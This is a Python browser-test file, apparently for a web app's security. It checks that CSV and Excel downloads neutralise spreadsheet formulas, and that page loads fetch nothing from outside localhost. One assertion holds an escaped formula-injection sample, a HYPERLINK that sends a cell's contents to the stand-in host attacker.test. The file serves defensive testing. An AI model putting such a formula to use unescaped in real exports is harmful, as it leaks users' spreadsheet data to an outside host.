"""What an attacker could reach through the browser: downloads open in a spreadsheet, and the
requests a page load makes."""

from __future__ import annotations

import csv
import io
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook

from tests.appserver import serving
from tests.conftest import FORMULA_CELL, FORMULA_POSTS

pytestmark = pytest.mark.browser

WAIT_MS = 60_000
LISTED = """() => !!document.querySelector('[data-testid="stDataFrame"]')
    && !document.querySelector('[data-testid="stStatusWidget"]')"""


def download(page, button) -> bytes:
    """Click ``button`` and return the bytes of the file the browser saves."""
    with page.expect_download(timeout=WAIT_MS) as event:
        button.click()
    path = event.value.path()
    with open(path, "rb") as fh:
        return fh.read()


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_every_download_of_hostile_posts_keeps_formulas_inert(browser, chromium_path,
                                                               formula_db, tmp_path):
    with serving(formula_db, tmp_path / "server.log") as url:
        context = browser.new_context(viewport={"width": 1920, "height": 1080},
                                      accept_downloads=True)
        try:
            page = context.new_page()
            page.goto(f"{url}/items")
            page.wait_for_function(LISTED, timeout=WAIT_MS)
            files = {
                "list": csv_rows(download(page, page.get_by_role(
                    "button", name="Download this list (CSV)"))),
                "csv": csv_rows(download(page, page.get_by_role("button",
                                                                name="Mentions (CSV)"))),
            }
            book = load_workbook(io.BytesIO(download(page, page.get_by_role(
                "button", name="Mentions (Excel)"))))
        finally:
            context.close()
    assert all(c.data_type != "f" for s in book.worksheets for r in s.iter_rows() for c in r)
    files["excel"] = [list(r) for r in book["Mentions"].iter_rows(values_only=True)]
    for name, rows in files.items():
        assert len(rows) == 1 + len(FORMULA_POSTS), name
        live = [c for row in rows for c in row if isinstance(c, str) and FORMULA_CELL.match(c)]
        assert live == [], name
        titles = {row[rows[0].index("title")] for row in rows[1:]}
        assert "'=HYPERLINK(\"http://attacker.test/?x=\"&A1,\"click\")" in titles, name


# Everything the page itself asked for (scripts, styles, fonts, images) and the icons it
# declares: Chromium fetches a tab icon without a "request" event for the page, so the <link>
# elements are read too.
FETCHED = """() => [
    ...performance.getEntriesByType('resource').map(e => e.name),
    ...Array.from(document.querySelectorAll('link[rel~="icon"], link[rel="apple-touch-icon"]'),
                  l => l.href),
]"""
LOCAL_HOSTS = {"127.0.0.1", "localhost", "[::1]"}


def test_no_request_leaves_the_machine_when_the_pages_load(context, app_url):
    from tests.browser.test_pages import PAGES, settle

    requested: list[str] = []
    context.on("request", lambda request: requested.append(request.url))
    page = context.new_page()
    for _stem, _title, path in PAGES:
        page.goto(f"{app_url}/{path}")
        settle(page)
        requested.extend(page.evaluate(FETCHED))
    foreign = sorted({url for url in requested
                      if not url.startswith(("data:", "blob:"))
                      and urlsplit(url).netloc.rpartition(":")[0] not in LOCAL_HOSTS})
    assert requested and foreign == []
    icons = page.evaluate("() => Array.from(document.querySelectorAll('link[rel~=\"icon\"]'),"
                          " l => l.href)")
    assert icons and all(urlsplit(i).netloc.startswith("127.0.0.1:") for i in icons)
    answer = page.request.get(icons[0])  # the shipped icon really is there
    assert answer.status == 200 and answer.headers["content-type"].startswith("image/")
